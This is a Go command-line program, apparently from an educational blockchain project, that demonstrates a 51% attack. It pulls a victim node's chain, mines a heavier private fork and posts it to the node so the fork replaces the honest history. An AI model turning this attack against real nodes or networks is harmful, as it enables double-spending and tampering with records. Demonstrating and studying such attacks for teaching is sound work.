// Attack demonstrates the 51% scenario against a running node: it pulls
// the victim's chain, mines a stronger private fork from a chosen
// ancestor, and presents the fork to the victim's fork choice rule.
package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"time"

	"github.com/ardanlabs/conf/v3"
	"github.com/blockylab/blocky/foundation/blockchain/attack"
	"github.com/blockylab/blocky/foundation/blockchain/database"
	"github.com/blockylab/blocky/foundation/blockchain/genesis"
	"github.com/blockylab/blocky/foundation/logger"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/go-resty/resty/v2"
	"go.uber.org/zap"
)

var build = "develop"

func main() {
	log, err := logger.New("ATTACK")
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	defer log.Sync()

	if err := run(log); err != nil {
		log.Errorw("attack", "ERROR", err)
		log.Sync()
		os.Exit(1)
	}
}

func run(log *zap.SugaredLogger) error {
	cfg := struct {
		conf.Version
		Victim      string        `conf:"default:0.0.0.0:9080"`
		GenesisPath string        `conf:"default:zblock/genesis.json"`
		KeyPath     string        `conf:"default:zblock/accounts/attacker.ecdsa"`
		ForkFrom    uint64        `conf:"default:1"`
		Extend      int           `conf:"default:1"`
		Timeout     time.Duration `conf:"default:10m"`
	}{
		Version: conf.Version{
			Build: build,
			Desc:  "demonstrates rewriting history with majority hash power",
		},
	}

	const prefix = "ATTACK"
	help, err := conf.Parse(prefix, &cfg)
	if err != nil {
		if errors.Is(err, conf.ErrHelpWanted) {
			fmt.Println(help)
			return nil
		}
		return fmt.Errorf("parsing config: %w", err)
	}

	gen, err := genesis.Load(cfg.GenesisPath)
	if err != nil {
		return fmt.Errorf("unable to load genesis file: %w", err)
	}

	privateKey, err := crypto.LoadECDSA(cfg.KeyPath)
	if err != nil {
		return fmt.Errorf("unable to load attacker key: %w", err)
	}

	client := resty.New().SetTimeout(30 * time.Second)

	// Pull the victim's chain.
	url := fmt.Sprintf("http://%s/v1/node/block/list/1/latest", cfg.Victim)
	var blocksData []database.BlockData
	resp, err := client.R().SetResult(&blocksData).Get(url)
	if err != nil {
		return fmt.Errorf("retrieving victim chain: %w", err)
	}
	if resp.IsError() {
		return fmt.Errorf("retrieving victim chain: %s", resp.Status())
	}

	honest := make([]database.Block, len(blocksData))
	for i, blockData := range blocksData {
		block, err := database.ToBlock(blockData)
		if err != nil {
			return err
		}
		honest[i] = block
	}

	log.Infow("attack", "status", "victim chain retrieved", "height", len(honest), "work", database.ChainWork(honest))

	// Mine the private fork. This is real work: with the same hash power
	// as the victim it takes about as long as the honest chain took.
	ctx, cancel := context.WithTimeout(context.Background(), cfg.Timeout)
	defer cancel()

	fork, err := attack.BuildFork(ctx, attack.Config{
		Genesis:       gen,
		BeneficiaryID: database.PublicKeyToAccountID(privateKey.PublicKey),
		EvHandler: func(v string, args ...any) {
			log.Infof(v, args...)
		},
	}, honest, cfg.ForkFrom, cfg.Extend)
	if err != nil {
		return fmt.Errorf("building fork: %w", err)
	}

	log.Infow("attack", "status", "fork mined", "height", len(fork), "work", database.ChainWork(fork))

	// Present the fork to the victim.
	forkData := make([]database.BlockData, len(fork))
	for i, block := range fork {
		forkData[i] = database.NewBlockData(block)
	}

	url = fmt.Sprintf("http://%s/v1/node/chain", cfg.Victim)
	resp, err = client.R().SetBody(forkData).Post(url)
	if err != nil {
		return fmt.Errorf("presenting fork: %w", err)
	}
	if resp.IsError() {
		return fmt.Errorf("victim rejected the fork: %s: %s", resp.Status(), resp.String())
	}

	log.Infow("attack", "status", "victim adopted the fork", "response", resp.String())

	return nil
}
